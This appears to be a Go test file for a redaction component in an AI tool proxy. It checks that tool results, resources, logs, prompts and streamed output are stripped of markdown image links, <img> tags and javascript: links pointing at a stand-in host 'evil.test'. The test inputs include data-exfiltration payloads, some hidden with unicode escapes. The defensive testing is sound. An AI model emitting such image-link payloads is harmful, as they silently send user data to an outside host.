package redact

import (
	"encoding/json"
	"strings"
	"testing"

	"sallyport.dev/sallyport"
)

// TO-17: results and what is read are made harmless however their JSON is
// written, and stay JSON; the record tells the hosts.
func TestTO17ResultsHoweverTheyAreWritten(t *testing.T) {
	s := New(Options{Images: []string{"ok.example"}})
	for _, content := range []string{
		`[{"type":"text","text":"![x](https://evil.test/?d=1)"}]`, `[{"type":"text","te\u0078t":"\u0021\u005bx\u005d\u0028https\u003a\u002f\u002fevil.test\u002f\u0029"}]`, `[{"type":"text","text":"\u003cimg src=\"https:\/\/evil.test\/\"\u003e"}]`,
		`[{"type":"resource","resource":{"uri":"file:///a.md","text":"![x](https://evil.test/)"}}]`, `[{"type":"text","text":"![x][r]"},{"type":"resource","resource":{"uri":"a:b","text":"[r]: https://evil.test/"}}]`,
		`[{"type":"text","text":"{\"body\":\"![x](https://evil.test/a.png)\"}"}]`,
	} {
		out, isError, findings, err := s.Result("", sallyport.Tool{Name: "x"}, sallyport.Output{Content: json.RawMessage(`{"content":` + content + `}`)})
		var r struct {
			Content []struct {
				Text     string
				Resource struct{ Text string }
			}
		}
		if err != nil || isError || json.Unmarshal(out, &r) != nil || len(findings) == 0 || !strings.Contains(findings[0], "evil.test") {
			t.Fatalf("%s: %s, %v, %v", content, out, findings, err)
		}
		for _, c := range r.Content {
			text := c.Text + c.Resource.Text
			if strings.Contains(text, "![") || strings.Contains(text, "<img") || strings.HasPrefix(text, "{") && !json.Valid([]byte(text)) {
				t.Errorf("%s became %s", content, text)
			}
		}
	}
	for _, content := range []string{`[{"type":"text","text":"![x](https://ok.example/a.png) [d](https://docs.example) <b>"}]`, `[{"type":"resource","resource":{"uri":"ui://x","mimeType":"text/html;profile=mcp-app","text":"<script src=\"https://cdn.test/x.js\"></script>"}}]`} {
		in := `{"content":` + content + `}`
		if out, _, findings, _ := s.Result("", sallyport.Tool{}, sallyport.Output{Content: json.RawMessage(in)}); string(out) != in || len(findings) > 0 {
			t.Errorf("%s became %s, %v", in, out, findings)
		}
	}
	all := New(Options{Images: []string{"*"}})
	in := `{"content":[{"type":"text","text":"![x](https://evil.test/)"}]}`
	if out, _, _, _ := all.Result("", sallyport.Tool{}, sallyport.Output{Content: json.RawMessage(in)}); string(out) != in {
		t.Errorf("every host is allowed: %s", out)
	}
}

// TO-17: what comes beside results is shown, too: errors, progress, logs, questions
// and the output of a program that runs. Addresses that are meant to be one stay.
func TestTO17WhatComesBesideResults(t *testing.T) {
	s := New(Options{Images: []string{"ok.example"}})
	const bad = "![x](https://evil.test/?d=1) <img src=https://evil.test/x> [y](javascript:alert(1))"
	notice := func(params string) string {
		return string(s.Notice("", sallyport.Notice{Params: json.RawMessage(params)}).Params)
	}
	for name, got := range map[string]string{
		"error":    s.Text("answered with " + bad),
		"progress": notice(`{"progress":1,"message":"` + bad + `"}`),
		"log":      notice(`{"level":"info","data":{"m":["` + bad + `"]}}`),
		"question": notice(`{"message":"` + bad + `","requestedSchema":{"type":"object","properties":{"a":{"type":"string","title":"` + bad + `"}}}}`),
		"model":    notice(`{"messages":[{"role":"user","content":{"type":"text","text":"` + bad + `"}}],"systemPrompt":"` + bad + `"}`),
		"stream":   s.Stream("")([]byte(bad + "\n")),
	} {
		if strings.Contains(got, "![") || strings.Contains(got, "<img") || strings.Contains(got, "](javascript:") || !strings.Contains(got, "evil.test") {
			t.Errorf("%s: %s", name, got)
		}
	}
	const address = "https://u.example/cb?state=QSBzZW50ZW5jZSB0aGF0IGNhbiBiZSByZWFk"
	for _, same := range []string{`{"url":"` + address + `","message":"![x](https://ok.example/a.png) <b> [d](https://docs.example)"}`, `{"uri":"` + address + `"}`} {
		if got := notice(same); got != same {
			t.Errorf("%s became %s", same, got)
		}
	}
	if got := notice(`{"message":"` + address + `"}`); strings.Contains(got, address) {
		t.Errorf("the control: %s", got)
	}
}
